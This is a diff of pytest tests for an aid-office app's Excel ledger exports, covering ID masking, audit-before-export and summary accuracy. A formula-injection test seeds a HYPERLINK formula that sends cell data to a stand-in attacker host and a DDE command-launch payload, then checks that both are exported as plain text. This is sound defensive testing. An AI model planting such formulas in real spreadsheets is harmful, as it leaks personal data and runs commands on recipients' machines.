@@ -4,12 +4,15 @@ import pytest
 from openpyxl import load_workbook
 from sqlalchemy import select
 
-from aidoffice.db.models import AuditEntry, Student
+from aidoffice.db.models import AuditEntry, Household, Student
 from aidoffice.demo import generate
 from aidoffice.errors import InputRefused
 from aidoffice.exporting.ledger import export_school_ledger, export_village_ledger
 from aidoffice.ledgers.school import current_term
-from aidoffice.ledgers.villages import village_tree
+from aidoffice.ledgers.students import add_student, link_to_household
+from aidoffice.ledgers.villages import get_or_create_village, village_tree
+from aidoffice.privacy import find_sensitive
+from tests.factories import student
 
 
 @pytest.fixture
@@ -36,18 +39,72 @@ def test_school_ledger_has_every_student_with_full_ids_as_text(demo_db, tmp_path
         assert entry.actor == "王会计" and entry.after["full_id_numbers"] is True
 
 
-def test_masked_export_hides_the_middle_of_ids(demo_db, tmp_path):
+def _cells(path):
+    wb = load_workbook(path)
+    return [str(v) for ws in wb for row in ws.iter_rows(values_only=True) for v in row if v is not None]
+
+
+@pytest.mark.parametrize("export", [export_school_ledger, export_village_ledger])
+def test_a_masked_export_holds_no_full_sensitive_number_in_any_cell(demo_db, tmp_path, export):
+    """Masked means masked everywhere: ID, 学籍号 (G + ID), phone, account — in every cell of every sheet."""
     out = tmp_path / "masked.xlsx"
     with demo_db.unit_of_work() as s:
-        export_school_ledger(s, out, mask=True)
-    ws = load_workbook(out).active
-    assert ws.cell(row=3, column=4).value[6:14] == "********"
+        rows = export(s, out, mask=True).rows
+    cells = _cells(out)
+    assert rows > 100 and [c for c in cells if find_sensitive(c)] == []
+    assert any(c[6:14] == "********" for c in cells)  # the masked IDs are there, not left out
+    full = tmp_path / "full.xlsx"
+    with demo_db.unit_of_work() as s:
+        export(s, full, mask=False)
+    assert any(find_sensitive(c) for c in _cells(full))  # the scan would have caught them
+
+
+def test_text_typed_like_a_formula_is_exported_as_that_text(school_db, tmp_path):
+    """Formula injection: a guardian or household head "named" =HYPERLINK(...) stays visible text, never a
+    live formula, in both ledgers."""
+    hostile = '=HYPERLINK("http://evil.example/?"&A1,"点我")'
+    with school_db.unit_of_work() as s:
+        st = add_student(s, 1, student("王小明", guardian_name=hostile, notes="=cmd|' /C calc'!A0"))
+        village = get_or_create_village(s, "龙泉关镇", "黑崖沟村")
+        hh = Household(village_id=village.id, household_no="0001", head_name="=1+1")
+        s.add(hh)
+        s.flush()
+        link_to_household(s, st.id, hh.id, "子")
+    for export, value in ((export_school_ledger, hostile), (export_village_ledger, "=1+1")):
+        out = tmp_path / f"{export.__name__}.xlsx"
+        with school_db.unit_of_work() as s:
+            export(s, out)
+        found = [c for ws in load_workbook(out) for row in ws.iter_rows() for c in row if c.value == value]
+        assert found and all(c.data_type == "s" for c in found), export.__name__
+
+
+def test_an_export_on_a_read_only_database_writes_no_file(demo_db, tmp_path):
+    """The audit entry comes first: if it cannot be written, no workbook of full ID numbers is left behind."""
+    if demo_db.dialect != "sqlite":
+        pytest.skip("a read-only database file is an SQLite case")
+    from sqlalchemy import event
+
+    from aidoffice.db.engine import Database
+
+    ro = Database(demo_db.url)
+    # the tests run as root, which ignores file modes: query_only makes SQLite refuse writes as a
+    # read-only file does (SQLITE_READONLY)
+    event.listen(ro.engine, "connect", lambda conn, _r: conn.execute("PRAGMA query_only=1"))
+    ro.engine.dispose()
+    (tmp_path / "out").mkdir()
+    out = tmp_path / "out" / "full.xlsx"
+    with pytest.raises(Exception), ro.unit_of_work() as s:  # noqa: B017  (typed in the next commit)
+        export_school_ledger(s, out)
+    ro.dispose()
+    assert list((tmp_path / "out").iterdir()) == []
 
 
 def test_village_ledger_summary_matches_the_tree(demo_db, tmp_path):
+    """The summary sheet is what inspectors read: it must agree with the village tree row for row."""
     out = tmp_path / "户籍台账.xlsx"
     with demo_db.unit_of_work() as s:
         export_village_ledger(s, out)
+    with demo_db.reading() as s:
         tree = village_tree(s, current_term(s))
     wb = load_workbook(out)
     assert wb.sheetnames == ["村汇总", "学龄儿童"]
